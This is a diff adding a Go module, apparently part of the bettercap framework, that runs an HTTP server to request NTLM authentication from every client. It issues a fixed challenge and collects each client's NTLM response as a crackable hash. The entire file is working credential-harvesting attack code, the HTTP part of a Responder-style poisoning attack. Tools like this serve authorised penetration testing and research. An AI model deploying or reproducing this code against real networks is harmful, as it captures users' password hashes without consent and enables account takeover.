@@ -0,0 +1,100 @@
+package modules
+
+import (
+	"bytes"
+	"encoding/base64"
+	"net"
+	"net/http"
+	"strings"
+
+	"github.com/bettercap/bettercap/core"
+	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/packets"
+)
+
+// responderHTTP is an HTTP server asking every client for its NTLM
+// credentials.
+type responderHTTP struct {
+	responder *NetResponder
+	server    *http.Server
+}
+
+func newResponderHTTP(r *NetResponder, address string) (*responderHTTP, error) {
+	listener, err := net.Listen("tcp", address)
+	if err != nil {
+		return nil, err
+	}
+
+	h := &responderHTTP{responder: r}
+	h.server = &http.Server{Handler: h}
+
+	go func() {
+		log.Info("[%s] HTTP listener started on %s", core.Green(r.Name()), address)
+		if err := h.server.Serve(listener); err != nil && err != http.ErrServerClosed {
+			log.Error("[%s] HTTP listener error: %s", r.Name(), err)
+		}
+	}()
+
+	return h, nil
+}
+
+// ntlmMessage returns the NTLMSSP message within data, either raw or
+// wrapped in a SPNEGO token, or nil if there is none.
+func ntlmMessage(data []byte) []byte {
+	if at := bytes.Index(data, []byte("NTLMSSP\x00")); at >= 0 {
+		return data[at:]
+	}
+	return nil
+}
+
+// httpAuthorization returns the scheme and the NTLMSSP message of the
+// NTLM or Negotiate Authorization header of the request.
+func httpAuthorization(req *http.Request) (string, []byte) {
+	parts := strings.SplitN(req.Header.Get("Authorization"), " ", 2)
+	if len(parts) != 2 {
+		return "", nil
+	}
+
+	scheme := parts[0]
+	if !strings.EqualFold(scheme, "NTLM") && !strings.EqualFold(scheme, "Negotiate") {
+		return "", nil
+	}
+
+	raw, err := base64.StdEncoding.DecodeString(core.Trim(parts[1]))
+	if err != nil {
+		return "", nil
+	}
+	return scheme, ntlmMessage(raw)
+}
+
+func (h *responderHTTP) ServeHTTP(w http.ResponseWriter, req *http.Request) {
+	client := req.RemoteAddr
+	if host, _, err := net.SplitHostPort(client); err == nil {
+		client = host
+	}
+
+	scheme, msg := httpAuthorization(req)
+	switch packets.NTLMMessageType(msg) {
+	case packets.NTLMNegotiate:
+		w.Header().Set("WWW-Authenticate", scheme+" "+base64.StdEncoding.EncodeToString(h.responder.ntlmChallenge))
+		w.WriteHeader(http.StatusUnauthorized)
+
+	case packets.NTLMAuthenticate:
+		hash, err := parseResponderHash("http", client, h.responder.ntlmChallenge, msg)
+		if err != nil {
+			log.Debug("[%s] invalid HTTP authentication from %s: %s", h.responder.Name(), client, err)
+			w.WriteHeader(http.StatusForbidden)
+			return
+		}
+		h.responder.hashes.Add(h.responder.Session, hash)
+		w.WriteHeader(http.StatusOK)
+
+	default:
+		w.Header().Set("WWW-Authenticate", "NTLM")
+		w.WriteHeader(http.StatusUnauthorized)
+	}
+}
+
+func (h *responderHTTP) Close() {
+	h.server.Close()
+}